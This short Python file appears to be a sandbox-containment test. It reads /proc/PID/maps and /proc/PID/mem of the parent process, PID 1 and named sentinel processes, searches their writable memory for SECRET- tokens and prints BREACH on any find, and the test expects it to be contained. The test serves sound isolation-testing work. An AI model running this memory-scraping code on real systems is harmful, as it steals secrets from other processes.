# why: /proc/PID/mem is the memory of another process as a file.
# expect: status=finished
# stdout: contained
# outside: BREACH root
import json
import os
import re
from pathlib import Path

world = json.loads(Path("world.json").read_text())
for pid in (os.getppid(), 1, world["parent"], world["sentinel"]):
    try:
        ranges = re.findall(r"^(\w+)-(\w+) rw", Path(f"/proc/{pid}/maps").read_text(), re.MULTILINE)
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for first, last in ranges[:40]:
                memory.seek(int(first, 16))
                content = memory.read(min(int(last, 16) - int(first, 16), 8 << 20))
                print("BREACH", pid, len(content), re.findall(rb"SECRET-[0-9a-f]{32}", content))
    except OSError:
        continue
print("contained")
